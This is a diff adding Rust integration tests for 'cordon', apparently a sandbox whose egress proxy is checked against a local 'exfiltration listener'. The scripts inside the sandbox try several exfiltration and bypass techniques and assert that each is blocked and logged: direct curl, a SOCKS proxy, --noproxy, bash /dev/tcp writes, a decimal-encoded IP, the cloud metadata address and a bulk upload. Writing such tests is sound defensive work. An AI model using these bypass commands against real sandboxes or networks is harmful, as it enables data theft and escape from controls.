@@ -1,0 +1,259 @@
+//! Egress from inside `cordon exec`, and `cordon proxy` on its own, against real servers on
+//! 127.0.0.1: an allowed one and an exfiltration listener. Judged by what the servers
+//! receive and what the audit log holds.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::process::{Command, Output, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use super::common::{sandbox_ready, stderr, Home};
+
+/// A listener that counts the bytes it receives and answers `200 ok` to each connection.
+struct Listener {
+    port: u16,
+    received: Arc<AtomicUsize>,
+}
+
+impl Listener {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received = Arc::new(AtomicUsize::new(0));
+        let count = Arc::clone(&received);
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let count = Arc::clone(&count);
+                std::thread::spawn(move || {
+                    let mut stream = stream;
+                    let _ = stream.set_read_timeout(Some(Duration::from_millis(300)));
+                    let mut buf = [0u8; 65536];
+                    while let Ok(n) = stream.read(&mut buf) {
+                        if n == 0 {
+                            break;
+                        }
+                        count.fetch_add(n, Ordering::SeqCst);
+                    }
+                    let _ = stream.write_all(
+                        b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
+                    );
+                });
+            }
+        });
+        Self { port, received }
+    }
+
+    fn received(&self) -> usize {
+        std::thread::sleep(Duration::from_millis(400));
+        self.received.load(Ordering::SeqCst)
+    }
+}
+
+fn inside(home: &Home, flags: &[&str], script: &str) -> Output {
+    let mut args = vec!["exec"];
+    args.extend_from_slice(flags);
+    args.extend_from_slice(&["--", "bash", "-c", script]);
+    home.cordon(&args)
+        .env("PATH", "/usr/bin:/bin")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+fn out_file(home: &Home) -> String {
+    fs_err::read_to_string(home.workspace().join("out.txt")).unwrap_or_default()
+}
+
+fn audit_net(home: &Home) -> Vec<serde_json::Value> {
+    let out = home
+        .cordon(&["audit", "query", "--capability", "net", "--json"])
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+#[test]
+fn allowed_host_is_reached_through_the_proxy_and_every_bypass_fails() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    let allowed = Listener::start();
+    let exfil = Listener::start();
+    let (a, e) = (allowed.port, exfil.port);
+
+    // Without the sandbox, the exfiltration listener is reachable.
+    let bare = Command::new("curl")
+        .args(["-s", "-m", "5", &format!("http://127.0.0.1:{e}/stolen")])
+        .output()
+        .unwrap();
+    assert!(bare.status.success());
+    assert!(exfil.received() > 0);
+    exfil.received.store(0, Ordering::SeqCst);
+
+    let grant = format!("127.0.0.1:{a}");
+    let script = format!(
+        "curl -s -m 5 -o /dev/null -w 'allowed=%{{http_code}}\\n' http://127.0.0.1:{a}/ok >> out.txt; \
+         curl -s -m 5 -o /dev/null -w 'proxied=%{{http_code}}\\n' http://127.0.0.1:{e}/stolen >> out.txt; \
+         curl -s -m 5 -o /dev/null -w 'socks=%{{http_code}}\\n' -x socks5h://127.0.0.1:3128 http://127.0.0.1:{e}/stolen >> out.txt; \
+         curl -s -m 5 -o /dev/null -w 'direct=%{{http_code}}\\n' --noproxy '*' http://127.0.0.1:{e}/stolen >> out.txt; \
+         (echo stolen > /dev/tcp/127.0.0.1/{e}) 2>/dev/null; echo \"tcp=$?\" >> out.txt; \
+         curl -s -m 5 -o /dev/null -w 'spelled=%{{http_code}}\\n' http://2130706433:{e}/stolen >> out.txt; \
+         curl -s -m 5 -o /dev/null -w 'metadata=%{{http_code}}\\n' http://169.254.169.254/latest/meta-data/ >> out.txt"
+    );
+    let out = inside(&home, &["--allow-net", &grant], &script);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = out_file(&home);
+    for line in [
+        "allowed=200",
+        "proxied=403",
+        "direct=000",
+        "tcp=1",
+        "spelled=403",
+        "metadata=403",
+    ] {
+        assert!(text.contains(line), "{line} missing in {text}");
+    }
+    assert!(
+        text.contains("socks=000") || text.contains("socks=403"),
+        "{text}"
+    );
+    assert!(allowed.received() > 0);
+    assert_eq!(exfil.received(), 0, "the exfiltration listener got data");
+
+    let records = audit_net(&home);
+    let allowed_ok = records
+        .iter()
+        .any(|r| r["allow"] == true && r["resource"]["port"] == a);
+    let exfil_denied = records
+        .iter()
+        .filter(|r| r["allow"] == false && r["resource"]["port"] == e)
+        .count();
+    assert!(allowed_ok, "no allowed decision recorded");
+    assert!(exfil_denied >= 3, "denials recorded: {exfil_denied}");
+}
+
+#[test]
+fn a_name_resolving_to_loopback_is_refused_even_when_named() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    let allowed = Listener::start();
+    let a = allowed.port;
+    let grant = format!("localhost:{a}");
+    let script = format!(
+        "curl -s -m 5 -x http://127.0.0.1:3128 --noproxy '' http://localhost:{a}/ > out.txt"
+    );
+    inside(&home, &["--allow-net", &grant], &script);
+    let text = out_file(&home);
+    assert!(
+        text.contains("resolves to 127.0.0.1, a loopback address"),
+        "{text}"
+    );
+    assert_eq!(allowed.received(), 0);
+}
+
+#[test]
+fn a_bulk_upload_is_cut_at_the_budget() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    let allowed = Listener::start();
+    let a = allowed.port;
+    // A policy with a 100 kB upload budget per host.
+    let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies/default");
+    let dir = home.path().join("policy");
+    fs_err::create_dir_all(&dir).unwrap();
+    for entry in fs_err::read_dir(&source).unwrap() {
+        let entry = entry.unwrap();
+        fs_err::copy(entry.path(), dir.join(entry.file_name())).unwrap();
+    }
+    let data_path = dir.join("data.json");
+    let mut data: serde_json::Value =
+        serde_json::from_str(&fs_err::read_to_string(&data_path).unwrap()).unwrap();
+    data["cordon"]["settings"]["net"]["upload_budget_bytes"] = 100_000.into();
+    fs_err::write(&data_path, data.to_string()).unwrap();
+    fs_err::write(home.workspace().join("bulk.bin"), vec![b'x'; 1_000_000]).unwrap();
+
+    let bare = Command::new("curl")
+        .args(["-s", "-m", "10", "--data-binary", "@bulk.bin"])
+        .arg(format!("http://127.0.0.1:{a}/upload"))
+        .current_dir(home.workspace())
+        .output()
+        .unwrap();
+    assert!(bare.status.success());
+    assert!(allowed.received() >= 1_000_000);
+    allowed.received.store(0, Ordering::SeqCst);
+
+    let grant = format!("127.0.0.1:{a}");
+    let policy = dir.display().to_string();
+    let out = inside(
+        &home,
+        &["--policy", &policy, "--allow-net", &grant],
+        &format!("curl -s -m 10 --data-binary @bulk.bin http://127.0.0.1:{a}/upload > out.txt"),
+    );
+    assert!(allowed.received() <= 100_000, "{}", stderr(&out));
+    assert!(
+        out_file(&home).contains("upload budget of 100000 bytes"),
+        "{}",
+        out_file(&home)
+    );
+    let cut = audit_net(&home).into_iter().any(|r| {
+        r["input"]["result"]["cut"]
+            .as_str()
+            .is_some_and(|c| c.contains("upload budget"))
+    });
+    assert!(cut, "the cut is not in the audit log");
+}
+
+#[test]
+fn the_standalone_proxy_serves_other_clients() {
+    let home = Home::new();
+    let allowed = Listener::start();
+    let exfil = Listener::start();
+    let grant = format!("127.0.0.1:{}", allowed.port);
+    let mut proxy = home
+        .cordon(&["proxy", "--listen", "127.0.0.1:0", "--allow-net", &grant])
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut lines = BufReader::new(proxy.stderr.take().unwrap()).lines();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let address = loop {
+        assert!(Instant::now() < deadline, "the proxy did not start");
+        let line = lines.next().unwrap().unwrap();
+        if let Some(rest) = line.strip_prefix("cordon proxy: listening on ") {
+            break rest.split_whitespace().next().unwrap().to_owned();
+        }
+    };
+    let curl = |port: u16| {
+        let out = Command::new("curl")
+            .args([
+                "-s",
+                "-m",
+                "5",
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                "-x",
+            ])
+            .arg(format!("http://{address}"))
+            .arg(format!("http://127.0.0.1:{port}/"))
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    assert_eq!(curl(allowed.port), "200");
+    assert_eq!(curl(exfil.port), "403");
+    assert_eq!(exfil.received(), 0);
+    proxy.kill().unwrap();
+    proxy.wait().unwrap();
+}
